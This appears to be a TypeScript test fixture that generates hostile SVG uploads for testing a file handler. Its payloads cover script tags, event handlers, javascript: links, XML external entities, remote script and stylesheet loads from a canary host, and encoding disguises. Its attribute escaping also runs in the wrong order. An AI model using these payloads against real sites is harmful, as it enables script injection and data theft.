import { gzipSync } from 'node:zlib';
import type { HostileFile } from './hostile-file.ts';

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const TYPE = 'image/svg+xml';

/** Drawings that carry a script, or ask for one, in every way SVG has. */
export function hostileDrawings(run: string, canary: string): readonly HostileFile[] {
  const attribute = run.replaceAll('"', '&quot;').replaceAll('&', '&amp;');
  const script = `<script><![CDATA[${run}]]></script>`;
  const whole = `<svg ${SVG} width="9" height="9">${script}</svg>`;
  const drawings: Readonly<Record<string, string>> = {
    'script.svg': whole,
    'script-href.svg': `<svg ${SVG}><script href="${canary}/script.js"/></svg>`,
    'script-xlink.svg': `<svg ${SVG}><script xlink:href="data:text/javascript,${encodeURIComponent(run)}"/></svg>`,
    'onload.svg': `<svg ${SVG} onload="${attribute}"/>`,
    'onbegin.svg': `<svg ${SVG}><animate onbegin="${attribute}" attributeName="x" dur="1s"/></svg>`,
    'set-onload.svg': `<svg ${SVG}><image href="x:" onerror="${attribute}"/></svg>`,
    'foreign-script.svg': `<svg ${SVG}><foreignObject width="9" height="9"><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></foreignObject></svg>`,
    'foreign-frame.svg': `<svg ${SVG}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.__pwned=1"/></foreignObject></svg>`,
    'link.svg': `<svg ${SVG}><a xlink:href="javascript:${attribute}"><rect width="999" height="999"/></a></svg>`,
    'use-data.svg': `<svg ${SVG}><use href="data:image/svg+xml,${encodeURIComponent(whole)}#x"/></svg>`,
    'style-import.svg': `<svg ${SVG}><style>@import '${canary}/style.css';</style></svg>`,
    'picture-abroad.svg': `<svg ${SVG}><image href="${canary}/picture.png" width="9" height="9"/></svg>`,
    'entity.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY run "${attribute}">]><svg ${SVG}><script>&run;</script></svg>`,
    'entity-abroad.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/entity">]><svg ${SVG}><text>&x;</text></svg>`,
    'style-sheet.svg': `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${canary}/style.css"?><svg ${SVG}/>`,
    'handler.svg': `<svg ${SVG}><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
    'behind-a-comment.svg': `<!-- a drawing --><?x y?><!DOCTYPE svg>${whole}`,
    'page-in-comment.svg': `<!--><script>${run}</script>-->${whole}`,
  };
  return [
    ...Object.entries(drawings).map(([name, text]) => ({
      name,
      type: TYPE,
      body: Buffer.from(text),
    })),
    { name: 'drawing.png', type: 'image/png', body: Buffer.from(whole) },
    { name: 'drawing.xml', type: 'application/xml', body: Buffer.from(whole) },
    { name: 'drawing.html', type: 'text/html', body: Buffer.from(whole) },
    { name: 'marked.svg', type: TYPE, body: Buffer.from(`\ufeff${whole}`) },
    { name: 'utf-16.svg', type: TYPE, body: Buffer.from(`\ufeff${whole}`, 'utf16le') },
    {
      name: 'packed.svg',
      type: TYPE,
      body: gzipSync(whole),
      said: { ContentEncoding: 'gzip', ContentDisposition: 'inline' },
    },
  ];
}
